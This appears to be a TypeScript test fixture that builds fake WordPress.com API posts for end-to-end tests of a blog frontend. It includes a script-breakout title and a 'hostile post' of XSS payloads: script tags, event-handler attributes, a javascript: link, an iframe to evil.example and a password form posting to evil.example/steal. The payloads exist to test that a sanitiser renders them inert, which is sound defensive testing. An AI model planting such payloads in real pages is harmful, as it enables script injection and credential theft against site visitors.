// Post data for the fake WordPress.com API. Every post is the recorded real post object (fixtures/) with its
// fields replaced, so the fake answers in the API's exact shape: HTML-encoded titles, '' for no featured image,
// categories keyed by name, the site's UTC offset in dates.
import recordedList from './fixtures/list-v1.1-posts.yclee0210.json';

const template = recordedList.posts[0]!;
const SITE_ID = 230_000_001;

/** A post object as the API answers it; the fake's own code and tests reach into any field. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any
export type FakePost = Record<string, any>;

export const clone = <T>(value: T): T => structuredClone(value);

function category(name: string, id: number) {
  const slug = name.toLowerCase().replace(/[^a-z0-9]+/g, '-');
  return {
    ID: id,
    name,
    slug,
    description: '',
    post_count: 1,
    parent: 0,
    meta: {
      links: {
        self: `https://public-api.wordpress.com/rest/v1.1/sites/${SITE_ID}/categories/slug:${slug}`,
        help: `https://public-api.wordpress.com/rest/v1.1/sites/${SITE_ID}/categories/slug:${slug}/help`,
        site: `https://public-api.wordpress.com/rest/v1.1/sites/${SITE_ID}`,
      },
    },
  };
}

/** A tag as the API has it in a post's `tags` map; post_count is set over the data set (withTagCounts). */
function tag(name: string) {
  const slug = decodeEntities(name)
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '');
  // One ID per tag across posts, as in WordPress.
  const id = 2000 + ([...slug].reduce((hash, char) => (hash * 31 + char.charCodeAt(0)) % 100_000, 7) % 100_000);
  return {
    ID: id,
    name,
    slug,
    description: '',
    post_count: 1,
    meta: {
      links: {
        self: `https://public-api.wordpress.com/rest/v1.1/sites/${SITE_ID}/tags/slug:${slug}`,
        help: `https://public-api.wordpress.com/rest/v1.1/sites/${SITE_ID}/tags/slug:${slug}/help`,
        site: `https://public-api.wordpress.com/rest/v1.1/sites/${SITE_ID}`,
      },
    },
  };
}

const decodeEntities = (text: string) => text.replace(/&amp;/g, '&').replace(/&#8217;/g, '\u2019');

/** Each tag's post_count as WordPress keeps it: the posts of the data set that carry the tag. */
export function withTagCounts(posts: FakePost[]): FakePost[] {
  const counts = new Map<string, number>();
  for (const post of posts)
    for (const t of Object.values<{ slug: string }>(post.tags ?? {})) counts.set(t.slug, (counts.get(t.slug) ?? 0) + 1);
  for (const post of posts)
    for (const t of Object.values<{ slug: string; post_count: number }>(post.tags ?? {})) t.post_count = counts.get(t.slug) ?? 1;
  return posts;
}

/** A complete post object from a few fields: { ID, date, title, content, excerpt, categories and tags: [names], featured_image, author }. */
export type PostFields = {
  ID: number;
  date: string;
  modified?: string;
  title: string;
  content: string;
  excerpt: string;
  categories?: string[];
  /** Tag names as the API writes them (HTML-encoded: 'Ceph &amp; Rook'). */
  tags?: string[];
  featured_image?: string;
  author?: string;
};

export function makePost({
  ID,
  date,
  modified,
  title,
  content,
  excerpt,
  categories = [],
  tags = [],
  featured_image = '',
  author = 'Dana Whitfield',
}: PostFields): FakePost {
  const post: FakePost = clone(template);
  const slug = `post-${ID}`;
  const ymd = date.slice(0, 10).replace(/-/g, '/');
  Object.assign(post, {
    ID,
    site_ID: SITE_ID,
    date,
    modified: modified ?? date,
    title,
    URL: `https://e2e.wordpress.com/${ymd}/${slug}/`,
    short_URL: `https://wp.me/p1-${ID}`,
    content,
    excerpt,
    slug,
    guid: `https://e2e.wordpress.com/?p=${ID}`,
    featured_image,
    post_thumbnail: null,
    tags: Object.fromEntries(tags.map((name) => [name, tag(name)])),
    attachments: {},
    attachment_count: 0,
    categories: Object.fromEntries(categories.map((name, i) => [name, category(name, 1000 + i)])),
  });
  post.author = { ...post.author, name: author, nice_name: author.toLowerCase().replace(/\s+/g, '-') };
  post.meta = { links: { self: `https://public-api.wordpress.com/rest/v1.1/sites/${SITE_ID}/posts/${ID}` } };
  return post;
}

/** The recorded post itself, its images moved onto the fake so tests never reach the internet. */
function recordedPost(origin: string): FakePost {
  const post: FakePost = clone(template);
  post.content = post.content.replace(
    /https:\/\/yclee0210\.files\.wordpress\.com\/2016\/01\/(img_\d+)\.jpg\?w=(\d+)&#038;h=(\d+)/g,
    `${origin}/images/$1-$2x$3.svg`,
  );
  return post;
}

const FEATURES = [
  'cluster upgrades',
  'etcd backups',
  'node pool autoscaling',
  'Harbor replication',
  'Argo CD drift alerts',
  'Keycloak realm exports',
  'Ceph placement groups',
  'CIS benchmark scans',
  'air-gapped registries',
  'GPU node taints',
];

/** Filler posts, newest first from `start`, one every five days; every seventh is Gov; with `imageOrigin`, every
 * third has a featured image served by the fake. The first 22 are tagged Runbooks (a tag archive of two pages that
 * leaves out #24, the post the rebuild spec edits), those on GPU node taints GPU. */
export function generatePosts(
  count: number,
  {
    firstId = 3001,
    start = Date.UTC(2025, 3, 20, 13, 0, 0),
    govEvery = 7,
    imageOrigin = null,
  }: { firstId?: number; start?: number; govEvery?: number; imageOrigin?: string | null } = {},
): FakePost[] {
  return Array.from({ length: count }, (_, i) => {
    const n = i + 1;
    const topic = FEATURES[i % FEATURES.length];
    const date = new Date(start - i * 5 * 86_400_000).toISOString().replace('.000Z', '+00:00');
    return makePost({
      ID: firstId + i,
      date,
      title: `Operations notebook #${n}: ${topic}`,
      excerpt: `<p>Notes from week ${n} of running FKP fleets: what we changed about ${topic} and why [&hellip;]</p>\n`,
      content: `<p>Notes from week ${n} of running FKP fleets in production.</p>\n<h2>What changed</h2>\n<p>We revised our runbook for ${topic} after a customer review.</p>\n<ul><li>Measured before and after.</li><li>Rolled out behind a flag.</li></ul>\n`,
      categories: n % govEvery === 0 ? ['Operations', 'Gov'] : ['Operations'],
      tags: [...(n <= 22 ? ['Runbooks'] : []), ...(topic === 'GPU node taints' ? ['GPU'] : [])],
      author: n % 2 ? 'Dana Whitfield' : 'Marcus Oyelaran',
      featured_image: imageOrigin && n % 3 === 1 ? `${imageOrigin}/images/featured-${firstId + i}.svg` : '',
    });
  });
}

/**
 * 300 characters: its slug before the cut (lib/blog/paths.ts) is longer than a file name may be, so the export
 * must cut it (an uncut slug fails the build with ENAMETOOLONG).
 */
const LONG_TITLE =
  `Operations notebook #20: ${'what a year of GPU node taints, air-gapped registries and etcd backups taught us, '.repeat(4)}`
    .slice(0, 300)
    .trim();

/** A title that tries to close the script element it is written into (JSON-LD) and open its own. */
const SCRIPT_BREAKOUT_TITLE = 'Operations notebook #19: </script><script>window.__xss="title"</script>';

/** The default data set: a Gov post with a featured image, a title with &#8217; and &amp; and no image,
 * 43 filler posts (#19 has a script-breakout title, #20 a 300-character one) and the recorded post: 46 posts, so
 * /blog has three pages of 20, 20 and 6 (the API's default page is 20) and the Gov archive more than one card. */
export function defaultPosts(origin: string): FakePost[] {
  const fillers = generatePosts(43);
  fillers[18]!.title = SCRIPT_BREAKOUT_TITLE;
  fillers[19]!.title = LONG_TITLE;
  return withTagCounts([
    makePost({
      ID: 4101,
      date: '2025-06-12T09:30:00-04:00',
      title: 'Hardening FKP clusters for a STIG audit',
      categories: ['Gov', 'Kubernetes'],
      tags: ['STIG', 'FIPS 140-2'],
      featured_image: `${origin}/images/featured-4101.svg`,
      author: 'Priya Raman',
      excerpt: '<p>A walkthrough of the DISA STIG controls we automate in FKP, and the evidence auditors ask for [&hellip;]</p>\n',
      content: [
        '<p>Auditors rarely ask whether a cluster is hardened. They ask you to <em>prove</em> it.</p>',
        '<h2 id="controls">Controls we automate</h2>',
        '<ul><li>API server audit logging to an immutable sink</li><li>FIPS 140-2 validated crypto on every node</li><li>Pod Security admission in <code>restricted</code> mode</li></ul>',
        `<figure class="wp-block-image size-large"><img src="${origin}/images/diagram-4101.svg" alt="Evidence flow from cluster to auditor" width="800" height="400" srcset="${origin}/images/diagram-4101.svg 800w" sizes="(max-width: 800px) 100vw, 800px" class="wp-image-77"/><figcaption class="wp-element-caption">Evidence flows from the cluster to the audit bucket.</figcaption></figure>`,
        '<h3>Checking a node</h3>',
        '<pre class="wp-block-code"><code>fkp audit run --profile stig --output evidence.json</code></pre>',
        '<table><thead><tr><th scope="col">Control</th><th scope="col">Status</th></tr></thead><tbody><tr><td>V-242376</td><td>Automated</td></tr><tr><td>V-242383</td><td>Automated</td></tr></tbody></table>',
        '<p>See <a href="#controls">the controls above</a> or <a href="https://docs.example.org" target="_blank">the documentation</a>.</p>',
      ].join('\n'),
    }),
    makePost({
      ID: 4102,
      date: '2025-05-28T14:00:00-04:00',
      title: 'What&#8217;s new in Vitro: Ceph &amp; GitOps, together',
      categories: ['Product news', 'Governance'],
      tags: ['Ceph &amp; Rook', 'GitOps'],
      author: 'Marcus Oyelaran',
      excerpt: '<p>Vitro 3.2 manages Ceph pools from Git, so storage changes get the same review as everything else [&hellip;]</p>\n',
      content:
        '<p>Vitro 3.2 manages Ceph pools declaratively.</p>\n<h2>Why it matters</h2>\n<p>Storage changes now go through pull requests &amp; reviews.</p>\n',
    }),
    ...fillers,
    recordedPost(origin),
  ]);
}

/**
 * A post of hostile markup, kept out of the default set: the browser reports the blocked inline handlers of
 * such markup as CSP violations on the console while the sanitiser parses it, which would fail every walk over
 * all pages. The sanitiser's unit tests run the same payloads (test-support/blog-xss-payloads.ts); a spec that wants it
 * served adds it through the control endpoint and expects those console reports.
 */
export function hostilePost(): FakePost {
  return makePost({
    ID: 4103,
    date: '2025-05-02T11:15:00-04:00',
    title: 'Markup that must stay inert: &lt;script&gt;alert(1)&lt;/script&gt;',
    categories: ['Security'],
    author: 'Red Team <b>bot</b>',
    excerpt:
      '<p onmouseover="window.__xss=\'excerpt-hover\'">This excerpt carries handlers <img src="x" onerror="window.__xss=\'excerpt-img\'"> [&hellip;]</p>\n<script>window.__xss="excerpt-script"</script>',
    content: [
      '<p>Everything below is hostile and must render as harmless markup.</p>',
      '<script>window.__xss = "content-script"; alert("xss")</script>',
      '<img src="x" onerror="window.__xss=\'content-img\'; alert(1)" alt="broken on purpose">',
      '<p><a href="javascript:window.__xss=\'content-link\'">A javascript: link</a></p>',
      '<div style="position:fixed;inset:0;z-index:9999;background:#c00">full-page overlay</div>',
      '<iframe src="https://evil.example/" title="evil"></iframe>',
      '<svg onload="window.__xss=\'svg\'"><circle r="5"></circle></svg>',
      '<form action="https://evil.example/steal"><input name="password" autofocus><button>Sign in</button></form>',
      '<style>body { display: none !important; }</style>',
      '<p id="main">A paragraph trying to take the skip link\'s target.</p>',
    ].join('\n'),
  });
}

/** A small SVG for any /images/{name}.svg the posts reference; `-WxH` in the name sets its size. */
export function placeholderSvg(name: string): string {
  const size = /-(\d+)x(\d+)$/.exec(name);
  const [w, h] = size ? [Number(size[1]), Number(size[2])] : name.startsWith('featured') ? [1200, 630] : [800, 400];
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${h}" viewBox="0 0 ${w} ${h}"><rect width="${w}" height="${h}" fill="#16293e"/><path d="M0 ${h * 0.75} L${w * 0.3} ${h * 0.4} L${w * 0.5} ${h * 0.6} L${w * 0.75} ${h * 0.25} L${w} ${h * 0.7} V${h} H0Z" fill="#0e7c74"/></svg>`;
}
